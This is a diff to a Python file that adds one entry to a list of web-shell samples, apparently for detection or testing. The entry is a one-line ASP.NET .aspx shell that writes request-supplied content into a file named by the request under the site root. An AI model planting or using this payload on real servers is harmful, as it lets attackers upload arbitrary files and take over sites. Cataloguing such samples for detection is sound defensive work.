@@ -41,6 +41,14 @@ SHELLS: list[tuple[str, str, str, set[str], str]] = [
         {"file-write"},
         "C#",
     ),
+    (
+        "cs-write-request-content-into-named-file",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<% System.IO.File.WriteAllText(Server.MapPath("~/") + Request["n"], '
+        'Request.Form["c"]); %>',
+        {"file-write-content"},
+        "C#",
+    ),
     # --- command execution
     (
         "cs-processstartinfo-variable",
